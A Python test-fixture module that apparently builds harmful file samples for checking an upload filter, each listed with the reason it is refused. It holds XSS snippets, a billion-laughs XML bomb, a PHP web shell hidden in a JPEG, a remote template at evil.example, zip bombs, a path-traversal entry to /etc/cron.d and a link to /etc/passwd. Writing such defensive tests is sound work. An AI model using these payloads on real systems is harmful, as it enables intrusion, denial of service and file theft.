"""Files made to harm: built here, so that no virus scanner takes the repository for one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PNG_END = b"\0\0\0\0IEND\xaeB`\x82"
PDF = b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF"
JPG = b"\xff\xd8\xff\xe0\0\x02\xff\xd9"
TYPES_PART = b"<Types/>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


def png() -> bytes:
    """A whole picture of one point."""
    parts = b""
    for kind, data in ((b"IHDR", struct.pack("!2I5B", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\0"))):
        parts += struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + parts + PNG_END


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


def docx(**more: bytes) -> bytes:
    """A Word document with these further parts; «__» stands for «/», «_dot_» for «.»."""
    members = {"[Content_Types].xml": TYPES_PART, "word/document.xml": b"<document/>"}
    return packed({**members, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}})


def odt(manifest: bytes = b"<manifest/>", **more: bytes) -> bytes:
    """An OpenDocument text."""
    members = {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": manifest, "content.xml": b"<x/>"}
    return packed({**members, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}})


def locked_zip() -> bytes:
    """A zip file whose member says that it is encrypted."""
    data = bytearray(packed({"a.txt": b"text"}, zipfile.ZIP_STORED))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(sign) + place] |= 1
    return bytes(data)


def link_zip() -> bytes:
    """A zip file that holds a link to a file of the system."""
    made, info = io.BytesIO(), zipfile.ZipInfo("a.txt")
    info.external_attr = 0o120777 << 16
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(info, b"/etc/passwd")
    return made.getvalue()


def letter(name: str) -> bytes:
    """An e-mail with a file of this name."""
    from email.message import EmailMessage

    message = EmailMessage()
    message["Subject"] = "წერილი"
    message.set_content("ტექსტი")
    message.add_attachment(b"MZ", maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


# What is active by its name: each is refused, whatever it holds.
ACTIVE = {
    "page.html": b"<html><script>alert(1)</script>", "page.xhtml": b'<?xml version="1.0"?><html/>', "page.mhtml": b"MIME-Version: 1.0\n",
    "drawing.svg": b"<svg onload='alert(1)'/>", "drawing.svgz": b"\x1f\x8b\x08", "data.xml": BILLION, "style.xsl": b"<xsl/>",
    "run.js": b"alert(1)", "film.swf": b"CWS\x0a", "setup.exe": b"MZ\x90\0", "page.hta": b"<hta>", "program.jar": b"PK\x03\x04",
    "screen.scr": b"MZ\x90\0", "run.ps1": b"Get-Item", "run.vbs": b"x", "link.lnk": b"L\0\0\0", "disk.iso": b"\0", "page.php": b"<?php",
    "macro.docm": b"PK\x03\x04", "macro.xlsm": b"PK\x03\x04", "old.doc": OLE, "old.xls": OLE, "sheet.xlsb": b"PK\x03\x04", "add.xll": b"MZ",
}  # fmt: skip

# What says to be something harmless: file, words of the reason.
DISGUISED = {
    "html as pdf": ("a.pdf", b"<html><script>alert(1)</script>", "web page"),
    "html after spaces as txt": ("a.txt", b"\xef\xbb\xbf \n<!-- x --><HTML><script>", "web page"),
    "html in UTF-16 as csv": ("a.csv", "\ufeff<script>alert(1)</script>".encode("utf-16-le"), "web page"),
    "svg as png": ("a.png", b"<svg/>", "web page"),
    "svg as jpg": ("a.jpg", b"<?xml version='1.0'?><svg/>", "web page"),
    "xml bomb as txt": ("a.txt", BILLION, "web page"),
    "program as pdf": ("a.pdf", b"MZ\x90\0\x03", "a program"),
    "program as docx": ("a.docx", b"\x7fELF\x02", "a program"),
    "script as txt": ("a.txt", b"#!/bin/sh\nrm", "a program"),
    "shortcut as pdf": ("a.pdf", b"L\0\0\0\x01\x14\x02\0", "shortcut"),
    "Flash as jpg": ("a.jpg", b"CWS\x0a\0\0", "Flash"),
    "rar as zip": ("a.zip", b"Rar!\x1a\x07", "packed archive"),
    "gzip as csv": ("a.csv", b"\x1f\x8b\x08\0", "packed archive"),
    "rtf as docx": ("a.docx", b"{\\rtf1}", "RTF"),
    "text as pdf": ("a.pdf", b"only text", "not really"),
    "picture as txt": ("a.txt", b"\xff\xd8\xff\xe0 abc", "not really"),
    "xlsx as docx": ("a.docx", packed({"[Content_Types].xml": TYPES_PART, "xl/workbook.xml": b"<x/>"}), "not really"),
    "zip as docx": ("a.docx", packed({"a.txt": b"x"}), "not really"),
    "zip behind pdf": ("a.pdf", PDF + packed({"a.exe": b"MZ"}), "two kinds"),
    "zip behind png": ("a.png", png() + packed({"a.exe": b"MZ"}), "two kinds"),
    "zip behind text": ("a.txt", b"text" + packed({"a.exe": b"MZ"}), "not really"),
    "page in png": ("a.png", png()[:-12] + b"<script>alert(1)</script>" + PNG_END, "two kinds"),
    "php in jpg": ("a.jpg", JPG[:-2] + b"<?php system($_GET[0]);" + JPG[-2:], "two kinds"),
    "program before zip": ("a.zip", b"MZ\x90\0" + packed({"a.txt": b"x"}), "a program"),
    "bytes before zip": ("a.zip", b"abcd" + packed({"a.txt": b"x"}), "two kinds"),
    "macros in docx": ("a.docx", docx(word__vbaProject_dot_bin=b"x"), "macros"),
    "macros by type in docx": ("a.docx", packed({"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": b"<d/>"}), "macros"),
    "old macros in xlsx": ("a.xlsx", packed({"[Content_Types].xml": TYPES_PART, "xl/workbook.xml": b"<x/>", "xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "controls in docx": ("a.docx", docx(word__activeX__activeX1_dot_bin=b"x"), "macros"),
    "macros in odt": ("a.odt", odt(Basic__Standard__Module1_dot_xml=b"<x/>"), "macros"),
    "program in docx": ("a.docx", docx(word__embeddings__a_dot_bin=b"MZ\x90\0"), "a program"),
    "template from afar": ("a.docx", docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'}), "from the internet"),
    "xml bomb in docx": ("a.docx", docx(word__a_dot_xml=BILLION), "declares entities"),
    "locked docx": ("a.docx", OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "protected by a password"),
    "old document as docx": ("a.docx", OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "old Office"),
    "locked odt": ("a.odt", odt(b"<manifest:encryption-data/>"), "protected by a password"),
    "locked zip": ("a.zip", locked_zip(), "protected by a password"),
    "locked pdf": ("a.pdf", PDF + b"\ntrailer << /Encrypt 5 0 R >>", "protected by a password"),
    "zip bomb": ("a.zip", packed({"a.txt": b"\0" * 40_000_000}), "unpacks to far more"),
    "bomb as docx": ("a.docx", docx(word__big_dot_xml=b" " * 40_000_000), "unpacks to far more"),
    "too many parts": ("a.zip", packed({f"{n}.txt": b"" for n in range(2001)}), "unpacks to far more"),
    "zip in zip": ("a.zip", packed({"b.zip": packed({"c.txt": b"x"})}), "Archives inside archives"),
    "zip in zip by content": ("a.zip", packed({"b.txt": packed({"c.txt": b"x"})}), "Archives inside archives"),
    "program in zip": ("a.zip", packed({"b.exe": b"MZ"}), "a program"),
    "program in zip by content": ("a.zip", packed({"b.txt": b"\x7fELF\x02"}), "a program"),
    "page in zip": ("a.zip", packed({"b.svg": b"<svg/>"}), "a program"),
    "macros in zip": ("a.zip", packed({"b.docm": b"x"}), "may hold macros"),
    "a way out of zip": ("a.zip", packed({"../../etc/cron.d/a.txt": b"x"}), "no honest program"),
    "a link in zip": ("a.zip", link_zip(), "no honest program"),
    "nothing in zip": ("a.zip", packed({}), "empty"),
    "cut zip": ("a.zip", packed({"a.txt": b"x" * 1000})[:60], "damaged"),
    "program in a letter": ("a.eml", letter("bill.exe"), "a program"),
    "archive in a letter": ("a.eml", letter("bill.zip"), "Archives inside archives"),
    "cut picture": ("a.png", png()[:-12], "cut short"),
}  # fmt: skip
